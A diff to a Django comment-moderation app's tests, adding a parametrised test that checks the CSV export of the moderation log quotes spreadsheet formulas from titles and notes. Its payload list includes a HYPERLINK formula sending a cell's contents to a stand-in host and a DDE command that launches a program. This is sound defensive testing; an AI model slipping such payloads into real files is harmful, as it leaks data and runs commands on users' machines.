@@ -292,3 +292,30 @@ def test_staff_reply_to_a_pending_comment_is_refused(client, moderator):
     client.force_login(moderator)
     client.post(f"/kiem-duyet/{comment.pk}/tra-loi/", {"body": "Trả lời"})
     assert not Comment.objects.filter(parent=comment).exists()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,1)",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_decision_log_export_neutralises_formulas_from_titles_and_notes(client, moderator, payload):
+    article = ArticleFactory(title=f"{payload}")
+    services.moderate_comment(
+        comment=CommentFactory(article=article, status=PENDING), moderator=moderator, to_status=SPAM, note=payload
+    )
+    client.force_login(moderator)
+    response = client.get("/kiem-duyet/nhat-ky/?dinh-dang=csv")
+    [header, row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    title, note = row[3], row[6]
+    for cell in (title, note):
+        # Quoted, so the spreadsheet shows the text as typed instead of running it.
+        assert cell.startswith("'") and payload.strip() in cell
